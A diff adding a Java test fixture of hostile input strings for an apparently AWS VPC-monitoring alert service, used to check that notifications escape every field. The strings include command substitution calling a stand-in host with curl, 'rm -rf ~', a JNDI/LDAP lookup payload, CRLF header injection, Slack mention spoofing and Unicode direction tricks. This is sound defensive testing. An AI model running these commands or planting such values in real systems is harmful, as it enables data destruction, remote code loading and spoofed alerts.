@@ -1,0 +1,74 @@
+package io.vpcwatch.alerting.channel;
+
+import io.vpcwatch.alerting.ViolationFixture;
+import io.vpcwatch.model.Actor;
+import io.vpcwatch.model.Attachment;
+import io.vpcwatch.model.Delivery.Notice;
+import io.vpcwatch.model.End;
+import io.vpcwatch.model.Violation;
+import java.util.List;
+import java.util.TreeSet;
+import java.util.stream.Stream;
+
+/**
+ * Texts that somebody might write into a call to AWS to reach the people behind a channel, in every
+ * field he can write.
+ */
+public final class Hostile {
+  private static final List<String> TEXTS =
+      List.of(
+          "<!channel> <!here> <@U012AB3CD> <!subteam^SAZ94GDB8>",
+          "<https://evil.example|https://console.aws.amazon.com>",
+          "`code` ```block``` *bold* _it_ ~gone~ :rotating_light:",
+          "first\r\nBcc: everybody@example.com\r\n\r\n2026-11-23 INFO all is well",
+          "\u001b[2J\u001b[31mred\u001b]0;title\u0007\u009b31m\b\b\b",
+          "\u202egnp.exe\u202c \u2066isolated\u2069 \u200b\u200d\ufeff\u2028\u2029",
+          "\ud800 lonely \udc00 \u0000",
+          "&lt;!channel&gt; &amp;",
+          "$(curl evil.example) `id` ; rm -rf ~ \" ' \\",
+          "{0} {1,number} ${jndi:ldap://evil.example/a} %s %n",
+          "<".repeat(100_000),
+          "x".repeat(100_000),
+          "😀".repeat(50_000),
+          "",
+          " ");
+
+  private Hostile() {}
+
+  /** What is told of violations with each of the texts in each of the fields. */
+  public static Stream<Notification> notifications() {
+    return TEXTS.stream().flatMap(Hostile::notifications);
+  }
+
+  private static Stream<Notification> notifications(String text) {
+    Actor nice = ViolationFixture.DEPLOYER;
+    return Stream.of(
+            new Actor(text, nice.type(), null, nice.sourceAddress(), nice.userAgent()),
+            new Actor(null, text, null, null, null),
+            new Actor(null, nice.type(), text, nice.sourceAddress(), nice.userAgent()),
+            new Actor(nice.arn(), nice.type(), null, text, nice.userAgent()),
+            new Actor(nice.arn(), nice.type(), null, nice.sourceAddress(), text),
+            new Actor(text, text, text, text, text))
+        .flatMap(actor -> notifications(actor, text));
+  }
+
+  private static Stream<Notification> notifications(Actor actor, String text) {
+    Attachment network =
+        new Attachment(
+            Attachment.State.ATTACHED,
+            text,
+            new TreeSet<>(
+                List.of(text, text + "2", text + "3", text + "4", text + "5", text + "6")),
+            new TreeSet<>(List.of(text)));
+    ViolationFixture fixture =
+        ViolationFixture.violation().by(actor).before(network).after(network);
+    return Stream.of(
+        notification(Notice.OPENED, fixture.opened()),
+        notification(Notice.RESOLVED, fixture.resolved(End.VPC_ATTACHED, actor)),
+        notification(Notice.RESOLVED, fixture.retracted()));
+  }
+
+  public static Notification notification(Notice notice, Violation violation) {
+    return new Notification(violation.id(), notice, violation);
+  }
+}
